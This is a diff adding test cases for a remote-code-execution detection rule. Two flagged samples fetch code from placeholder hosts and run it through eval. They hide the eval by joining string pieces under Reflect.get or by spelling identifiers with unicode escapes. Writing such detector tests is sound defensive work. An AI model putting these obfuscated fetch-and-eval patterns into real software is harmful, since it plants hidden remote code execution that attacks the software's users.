@@ -4,6 +4,11 @@ import rule from './remote-code-execution.js';
 ruleTest(rule, {
   clean: [
     {
+      name: 'Reflect.get(globalThis, name) of fetch and of a feature flag (not eval)',
+      file: 'lib/env.js',
+      code: "const f = Reflect.get(globalThis, 'fetch');\nconst on = Reflect.get(globalThis, ['__FLAG', 'S__'].join(''));\nf('https://api.example.org/x').then((r) => r.json()).then((j) => on && console.log(j));\n",
+    },
+    {
       name: 'a module hook load() that strips TypeScript from the local source (no network)',
       file: 'loader/hooks.mjs',
       code: "import { stripTypeScriptTypes } from 'node:module';\nexport async function load(url, context, next) {\n  if (!url.endsWith('.ts')) return next(url, context);\n  const r = await next(url, { ...context, format: 'module' });\n  return { format: 'module', source: stripTypeScriptTypes(String(r.source)), shortCircuit: true };\n}\n",
@@ -91,6 +96,18 @@ ruleTest(rule, {
     },
   ],
   flagged: [
+    {
+      name: 'eval taken with Reflect.get(globalThis, joined pieces) and fed a fetched template',
+      file: 'app/actions/subscribe.ts',
+      code: "'use server';\nconst HOST = ['https://cms-', 'assets.example', '.invalid/v2/t'].join('');\nexport async function subscribe() {\n  const t = await fetch(HOST).then((r) => r.json());\n  const run = Reflect.get(globalThis, ['ev', 'al'].join(''));\n  run(t.compile);\n}\n",
+      findings: [{ line: 6, severity: 'critical', message: /runs code from the response of fetch/ }],
+    },
+    {
+      name: 'identifiers spelled with \\u escapes (requir\\u0065, \\u0065val) and a line break before .get',
+      file: 'plugins/auditTrail.js',
+      code: "const \\u0068ttps = requir\\u0065('\\u0068ttps');\n\\u0068ttps\n  .get('https://audit.example.invalid/v3/schema', (res) => {\n    let src = '';\n    res.on('data', (c) => (src += c));\n    res.on('end', () => { \\u0065\\u0076\\u0061\\u006c(src); });\n  });\n",
+      findings: [{ line: 6, message: /eval runs code from the response of https\.get/ }],
+    },
     {
       name: 'a module hook load() that prepends fetched code to the module it loads',
       file: 'loader/hooks.mjs',
